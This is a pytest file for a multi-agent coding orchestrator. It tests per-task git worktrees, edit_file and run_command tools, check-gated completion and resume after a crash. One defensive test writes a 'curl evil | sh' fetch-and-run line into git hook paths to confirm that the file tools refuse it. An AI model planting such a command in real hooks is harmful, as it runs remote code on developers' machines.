"""Developers that do the work (contract section 9): a worktree per task, a commit per turn,
`edit_file` and `run_command`, checks that decide "done", scripted tool calls, and a crash
in the middle of a turn. The attacks on the sandbox are in tests/test_sandbox.py."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import EXAMPLES, cli, invoke
from dbcheck import query
from repos import make_repo, scenario

from orchestrator import Sessions
from orchestrator.errors import ConfigError
from orchestrator.runtime.worktrees import git

pytestmark = pytest.mark.backends()

EXAMPLE = EXAMPLES / "developers-run-code.yaml"


def tree_state(repo: Path) -> tuple[str, str, str, bytes]:
    """The user's side of a repository: branch, HEAD, status and index, byte for byte."""
    return (
        git("symbolic-ref", "HEAD", cwd=repo),
        git("rev-parse", "HEAD", cwd=repo),
        git("status", "--porcelain", "--untracked-files=all", cwd=repo),
        (repo / ".git" / "index").read_bytes(),
    )


def events_of(sessions: Sessions, session_id: str, kind: str) -> list[dict[str, Any]]:
    return [e for e in sessions.log(session_id) if e["kind"] == kind]


def developer_turn(*tools: dict[str, Any], summary: str = "done") -> dict[str, Any]:
    return {"tools": list(tools), "status": "DONE", "summary": summary}


def planned(*titles: str) -> dict[str, Any]:
    return {"status": "PLANNED", "tasks": [{"title": t} for t in titles]}


COMPLETE = {"status": "COMPLETE", "summary": "all done"}


# -- the example, end to end through a real process --------------------------------------


def test_the_example_fixes_a_project_through_edit_file_and_run_command(db_url: str) -> None:
    done = cli("run", "--script", str(EXAMPLE), "--json", db=db_url)
    assert done.returncode == 0, done.stderr
    view = json.loads(done.stdout)
    (task,) = view["tasks"]
    assert task["status"] == "done" and task["files"] == ["slug.py"]
    assert [c["passed"] for c in task["checks"]] == [True]
    bench = view["workbench"]
    branch = bench["tasks"][0]["branch"]
    assert branch == f"orchestrator/{view['session_id']}/task-1"
    # The branch holds the fix: one commit per developer turn on top of the base.
    repo = Path(bench["repository"])
    log = git("log", "--format=%s", f"{bench['base']}..{branch}", cwd=repo).splitlines()
    assert log == ["Implement slugify", "Implement slugify"]
    fixed = git("show", f"{branch}:slug.py", cwd=repo)
    assert "isalnum" in fixed
    # The check failed once (its output went back to the developer), then passed.
    log_doc = json.loads(cli("log", view["session_id"], "--json", db=db_url).stdout)
    checks = [e for e in log_doc if e["kind"] == "check"]
    assert [c["passed"] for c in checks] == [False, True]
    assert "failed" in checks[0]["output"] and checks[0]["sandbox"] == "bwrap"
    turns = [e for e in log_doc if e["kind"] == "agent_reply" and e["agent"] == "developer-1"]
    assert len(turns) == 2  # the second turn exists because the first one's check failed
    commands = [e for e in log_doc if e["kind"] == "command"]
    assert len(commands) == 3 and {c["sandbox"] for c in commands} == {"bwrap"}
    assert [c["exit_code"] for c in commands] == [1, 1, 0]
    # The worktrees are gone once the session completed; the branch stays.
    assert not Path(bench["worktrees"]).exists()


def test_status_shows_where_the_worktrees_are(db_url: str, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    path = scenario(
        tmp_path,
        {
            "task": "t",
            "agents": {
                "pm": [planned("one", "two")],
                "developer": [{"status": "NEEDS_CLARIFICATION", "question": "Which one?"}] * 2,
            },
        },
    )
    with Sessions(db_url) as sessions:
        view = sessions.start_scenario(path, workdir=repo)
        assert view["status"] == "paused"
        sid = view["session_id"]
        bench = view["workbench"]
    assert bench["repository"] == str(repo.resolve())
    assert bench["base"] == git("rev-parse", "HEAD", cwd=repo)
    worktrees = [Path(t["worktree"]) for t in bench["tasks"]]
    assert [t["branch"] for t in bench["tasks"]] == [
        f"orchestrator/{sid}/task-1",
        f"orchestrator/{sid}/task-2",
    ]
    assert all((w / ".git").is_file() for w in worktrees)  # real worktrees, still there
    text = invoke("status", sid, db=db_url).stdout
    assert f"worktree {worktrees[0]}" in text and "sandbox: auto, no network" in text


# -- the user's repository is never touched ----------------------------------------------


def test_the_users_branch_index_and_tree_are_unchanged(db_url: str, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", {"app.py": "print('v1')\n", "notes.txt": "x\n"})
    (repo / "notes.txt").write_text("uncommitted change\n")  # a dirty tree
    (repo / "untracked.txt").write_text("mine\n")
    subprocess.run(["git", "add", "notes.txt"], cwd=repo, check=True)  # staged, too
    before = tree_state(repo)
    path = scenario(
        tmp_path,
        {
            "task": "change the app",
            "checks": ["python app.py"],
            "agents": {
                "pm": [planned("edit app"), COMPLETE],
                "developer": [
                    developer_turn(
                        {"edit_file": {"path": "app.py", "old": "v1", "new": "v2"}},
                        {"run_command": {"command": "git status --short; cat notes.txt"}},
                    )
                ],
            },
        },
    )
    with Sessions(db_url) as sessions:
        view = sessions.start_scenario(path, workdir=repo)
        (command,) = events_of(sessions, view["session_id"], "command")
    assert view["status"] == "completed"
    assert tree_state(repo) == before
    assert (repo / "app.py").read_text() == "print('v1')\n"
    # The developer's worktree starts from HEAD: the uncommitted change is not in it.
    assert command["output"].strip() == "M app.py\nx"
    branch = view["workbench"]["tasks"][0]["branch"]
    assert git("show", f"{branch}:app.py", cwd=repo) == "print('v2')"


def test_run_says_in_one_line_that_uncommitted_changes_are_not_part_of_the_base(
    db_url: str, tmp_path: Path
) -> None:
    repo = make_repo(tmp_path / "repo")
    (repo / "README.md").write_text("changed\n")
    path = scenario(
        tmp_path,
        {
            "task": "t",
            "agents": {
                "pm": [planned("a"), COMPLETE],
                "developer": [{"status": "DONE", "summary": "ok"}],
            },
        },
    )
    done = invoke("run", "--script", str(path), "--workdir", str(repo), db=db_url)
    assert done.returncode == 0, done.stderr
    assert "its uncommitted changes are not part of it" in done.stderr


# -- parallel developers, each in its own worktree ---------------------------------------


def test_two_developers_each_see_only_their_own_worktree(db_url: str, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    path = scenario(
        tmp_path,
        {
            "task": "two things",
            "agents": {
                "pm": [planned("first", "second"), COMPLETE],
                "developer-1": [
                    developer_turn(
                        {"write_file": {"path": "one.txt", "content": "1"}},
                        {"run_command": {"command": "ls"}},
                    )
                ],
                "developer-2": [
                    developer_turn(
                        {"write_file": {"path": "two.txt", "content": "2"}},
                        {"run_command": {"command": "ls"}},
                    )
                ],
            },
        },
    )
    with Sessions(db_url) as sessions:
        view = sessions.start_scenario(path, workdir=repo)
        listings = {
            c["agent"]: c["output"].split()
            for c in events_of(sessions, view["session_id"], "command")
        }
    assert listings == {
        "developer-1": ["README.md", "one.txt"],
        "developer-2": ["README.md", "two.txt"],
    }
    files = {t["number"]: t["files"] for t in view["tasks"]}
    assert files == {1: ["one.txt"], 2: ["two.txt"]}
    for number, name in ((1, "one.txt"), (2, "two.txt")):
        branch = view["workbench"]["tasks"][number - 1]["branch"]
        assert git("ls-tree", "--name-only", branch, cwd=repo).split() == sorted(
            ["README.md", name]
        )


# -- checks decide "done" ----------------------------------------------------------------


def checked(tmp_path: Path, replies: list[dict[str, Any]], **extra: Any) -> Path:
    return scenario(
        tmp_path,
        {
            "task": "make the check pass",
            "checks": ["test -e ok.txt"],
            "agents": {"pm": [planned("the task"), COMPLETE], "developer": replies},
            **extra,
        },
    )


def test_a_check_that_fails_twice_blocks_the_task_with_its_output(
    db_url: str, tmp_path: Path
) -> None:
    repo = make_repo(tmp_path / "repo")
    not_yet = {"status": "DONE", "summary": "done, I think"}
    path = checked(tmp_path, [not_yet, not_yet])
    with Sessions(db_url) as sessions:
        view = sessions.start_scenario(path, workdir=repo)
        checks = events_of(sessions, view["session_id"], "check")
        replies = [e["agent"] for e in events_of(sessions, view["session_id"], "agent_reply")]
    (task,) = view["tasks"]
    assert task["status"] == "blocked"
    assert "test -e ok.txt" in task["reason"] and "exit code 1" in task["reason"]
    assert [c["passed"] for c in task["checks"]] == [False]
    assert [c["passed"] for c in checks] == [False, False]
    # Two attempts (the default max_check_attempts), then the PM saw the blocked task.
    assert replies == ["pm", "developer-1", "developer-1", "pm"]


def test_a_check_that_fails_once_then_passes_is_done(db_url: str, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    path = checked(
        tmp_path,
        [
            {"status": "DONE", "summary": "first try"},
            developer_turn({"write_file": {"path": "ok.txt", "content": "yes"}}),
        ],
    )
    with Sessions(db_url) as sessions:
        view = sessions.start_scenario(path, workdir=repo)
        told = [
            e
            for e in events_of(sessions, view["session_id"], "agent_reply")
            if e["agent"] == "developer-1"
        ]
    (task,) = view["tasks"]
    assert task["status"] == "done" and task["checks"][0]["passed"]
    assert view["status"] == "completed"
    assert len(told) == 2  # the second call is the developer told of the failed check


def test_the_developer_is_told_the_failing_output(tmp_path: Path, db_url: str) -> None:
    from orchestrator.domain.replies import parse_reply
    from orchestrator.runtime.agent import AgentRequest, AgentTurn

    seen: list[AgentRequest] = []

    class Recording:
        def respond(self, request: AgentRequest) -> AgentTurn:
            seen.append(request)
            if request.agent == "pm":
                reply = planned("t") if request.call == 1 else COMPLETE
            else:
                reply = {"status": "DONE", "summary": "s"}
            return AgentTurn(parse_reply(request.agent, reply))

        def describe(self) -> dict[str, Any]:
            return {"kind": "script", "agents": {}}

    repo = make_repo(tmp_path / "repo")
    with Sessions(db_url) as sessions:
        sessions.start(
            "t",
            backend=Recording(),
            settings={"checks": ["echo broken-widget >&2; exit 3"], "max_check_attempts": 3},
            workdir=repo,
        )
    told = [r.instruction for r in seen if r.agent == "developer-1"]
    assert len(told) == 3 and told[0] is None
    assert "attempt 1 of 3" in told[1] and "broken-widget" in told[1] and "exit code 3" in told[1]


def test_checks_without_a_repository_are_refused_before_anything_is_written(
    db_url: str, tmp_path: Path
) -> None:
    path = scenario(
        tmp_path,
        {"task": "t", "checks": ["make test"], "agents": {"pm": [planned("a")]}},
    )
    done = invoke("run", "--script", str(path), db=db_url)
    assert done.returncode == 2
    assert "git repository" in done.stderr and "--workdir" in done.stderr
    assert query(db_url, "SELECT COUNT(*) FROM sessions") == [(0,)]


def test_without_a_repository_commands_are_refused_and_files_are_shared(
    db_url: str, tmp_path: Path
) -> None:
    path = scenario(
        tmp_path,
        {
            "task": "t",
            "agents": {
                "pm": [planned("a"), COMPLETE],
                "developer": [
                    developer_turn(
                        {"write_file": {"path": "a.txt", "content": "x"}},
                        {"run_command": {"command": "ls"}},
                    )
                ],
            },
        },
    )
    with Sessions(db_url) as sessions:
        view = sessions.start_scenario(path)
        assert events_of(sessions, view["session_id"], "command") == []
    assert view["status"] == "completed" and view["workbench"] is None
    assert view["tasks"][0]["files"] == ["a.txt"]


def test_run_command_without_a_repository_says_to_use_one(tmp_path: Path) -> None:
    from orchestrator.skills import Desk

    tools, _ = Desk(tmp_path).tools("developer-1")
    result = {t.name: t for t in tools}["run_command"].invoke({"command": "ls"})
    assert not result.ok and "git repository" in str(result.error)


# -- tools ------------------------------------------------------------------------------


def test_edit_file_replaces_exactly_one_occurrence(tmp_path: Path) -> None:
    from orchestrator.skills import Desk

    (tmp_path / "a.py").write_text("x = 1\ny = 1\n")
    tools, context = Desk(tmp_path).tools("developer-1")
    edit = {t.name: t for t in tools}["edit_file"]
    assert edit.invoke({"path": "a.py", "old": "y = 1", "new": "y = 2"}).ok
    assert (tmp_path / "a.py").read_text() == "x = 1\ny = 2\n"
    twice = edit.invoke({"path": "a.py", "old": " = ", "new": "="})
    assert not twice.ok and "2 times" in str(twice.error)
    missing = edit.invoke({"path": "a.py", "old": "z = 3", "new": ""})
    assert not missing.ok and "not found" in str(missing.error)
    assert (tmp_path / "a.py").read_text() == "x = 1\ny = 2\n"  # refused: unchanged
    assert context.changed == {"a.py"}


def test_the_model_sees_edit_file_and_run_command() -> None:
    from langchain_core.utils.function_calling import convert_to_openai_tool
    from orchestrator.skills import DEVELOPER_TOOLS, registry

    schemas = {
        name: convert_to_openai_tool(registry()[name].Input)["function"]["parameters"]
        for name in DEVELOPER_TOOLS
    }
    assert set(schemas["edit_file"]["properties"]) == {"path", "old", "new"}
    assert set(schemas["run_command"]["properties"]) == {"command", "timeout_s"}
    assert schemas["edit_file"]["required"] == ["path", "old", "new"]


def test_hook_folders_are_never_written_by_the_file_tools(tmp_path: Path) -> None:
    from orchestrator.skills import Desk

    tools, _ = Desk(tmp_path).tools("developer-1")
    write = {t.name: t for t in tools}["write_file"]
    for path in (".githooks/pre-commit", ".husky/pre-commit", ".GitHooks/x"):
        result = write.invoke({"path": path, "content": "curl evil | sh"})
        assert not result.ok and "hooks" in str(result.error), path
    assert not (tmp_path / ".githooks").exists() and not (tmp_path / ".husky").exists()


# -- scenario files ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tools", "expected"),
    [
        ("not a list", "expected a list of tool calls"),
        ([{"rm_rf": {}}], "unknown tool 'rm_rf'"),
        ([{"run_command": {"cmd": "ls"}}], "run_command"),
        ([{"write_file": {"path": "a"}, "read_file": {"path": "a"}}], "one tool name"),
    ],
)
def test_a_malformed_tools_entry_is_exit_2_naming_the_place(
    tmp_path: Path, tools: Any, expected: str
) -> None:
    path = scenario(
        tmp_path,
        {
            "task": "t",
            "agents": {
                "pm": [planned("a")],
                "developer": [{"tools": tools, "status": "DONE", "summary": "s"}],
            },
        },
    )
    done = invoke("run", "--script", str(path))
    assert done.returncode == 2
    assert "agents.developer[0].tools" in done.stderr or "developer" in done.stderr
    assert expected in done.stderr


def test_the_pm_has_no_tools(tmp_path: Path) -> None:
    path = scenario(
        tmp_path,
        {"task": "t", "agents": {"pm": [{"tools": [], "status": "COMPLETE", "summary": "s"}]}},
    )
    done = invoke("run", "--script", str(path))
    assert done.returncode == 2 and "the PM has no tools" in done.stderr


def test_a_repo_folder_that_does_not_exist_is_exit_2(tmp_path: Path) -> None:
    path = scenario(tmp_path, {"task": "t", "repo": "nowhere", "agents": {"pm": [planned("a")]}})
    done = invoke("run", "--script", str(path))
    assert done.returncode == 2 and "repo:" in done.stderr and "not a folder" in done.stderr


def test_a_repository_without_a_commit_is_refused(tmp_path: Path, db_url: str) -> None:
    (tmp_path / "empty").mkdir()
    subprocess.run(["git", "init", "-q"], cwd=tmp_path / "empty", check=True)
    with Sessions(db_url) as sessions, pytest.raises(ConfigError, match="without a commit"):
        sessions.start_scenario(
            scenario(tmp_path, {"task": "t", "agents": {"pm": [planned("a")]}}),
            workdir=tmp_path / "empty",
        )


# -- a crash in the middle of a turn ---------------------------------------------------------


def test_a_turn_rerun_after_sigkill_starts_clean_and_finished_turns_stay(
    db_url: str, tmp_path: Path
) -> None:
    """developer-1's first turn ends (committed and recorded; its check fails); its second
    turn writes files, runs a command and is SIGKILLed before its commit. `resume` in a new
    process runs the second turn again from the first turn's commit: nothing of the killed
    attempt is in it, and the first commit is untouched."""
    repo = make_repo(tmp_path / "repo")
    turn = developer_turn(
        {"run_command": {"command": "echo attempt >> attempts.log; touch half-written.tmp"}},
        {"write_file": {"path": "ok.txt", "content": "yes"}},
    )
    path = checked(
        tmp_path,
        [
            developer_turn({"run_command": {"command": "echo first >> attempts.log"}}),
            turn,
        ],
    )
    killed = cli(
        "run",
        "--script",
        str(path),
        "--workdir",
        str(repo),
        db=db_url,
        env={**os.environ, "ORCHESTRATOR_CRASH_AT": "turn_ended:developer-1#2"},
    )
    assert killed.returncode == -9, killed.stderr
    (sid,) = [row[0] for row in query(db_url, "SELECT id FROM sessions")]
    first = query(
        db_url,
        "SELECT payload FROM events WHERE session_id = ? AND \"key\" = 'developer-1#1'",
        sid,
    )
    stored = first[0][0]
    first_commit = (json.loads(stored) if isinstance(stored, str) else stored)["commit"]
    worktree = Path(
        json.loads(invoke("status", sid, "--json", db=db_url).stdout)["workbench"]["tasks"][0][
            "worktree"
        ]
    )
    assert (worktree / "half-written.tmp").exists()  # the killed attempt left it behind
    resumed = cli("resume", sid, "--json", db=db_url)
    assert resumed.returncode == 0, resumed.stderr
    view = json.loads(resumed.stdout)
    branch = view["workbench"]["tasks"][0]["branch"]
    commits = git("rev-list", "--reverse", f"{view['workbench']['base']}..{branch}", cwd=repo)
    assert commits.split()[0] == first_commit  # the finished turn's commit, untouched
    assert len(commits.split()) == 2
    # One line from the first turn, one from the re-run: the killed attempt left none.
    assert git("show", f"{branch}:attempts.log", cwd=repo) == "first\nattempt"
    assert view["tasks"][0]["status"] == "done"
